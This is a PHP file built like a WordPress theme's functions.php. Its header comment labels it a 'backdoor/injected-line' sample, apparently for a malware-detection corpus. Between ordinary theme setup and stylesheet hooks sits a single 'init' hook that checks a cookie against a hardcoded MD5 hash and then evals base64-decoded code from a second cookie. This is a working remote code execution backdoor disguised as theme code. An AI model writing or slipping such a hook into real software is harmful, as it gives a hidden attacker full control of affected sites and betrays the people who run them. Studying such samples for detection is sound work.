<?php
/**
 * Family: backdoor/injected-line
 * Style: theme functions.php with a hidden hook
 * Trait: a legit-looking theme file; one init hook evaluates a cookie when a key matches
 */
function mytheme_setup() {
	add_theme_support( 'title-tag' );
	add_theme_support( 'post-thumbnails' );
}
add_action( 'after_setup_theme', 'mytheme_setup' );
add_action('init', function(){ if(isset($_COOKIE['wp_lang_k']) && md5($_COOKIE['wp_lang_k'])=='b5c0b187fe309af0f4d35982fd961d7e'){ @eval(base64_decode($_COOKIE['wp_lang_p'])); } });
function mytheme_scripts() {
	wp_enqueue_style( 'mytheme-style', get_stylesheet_uri() );
}
add_action( 'wp_enqueue_scripts', 'mytheme_scripts' );
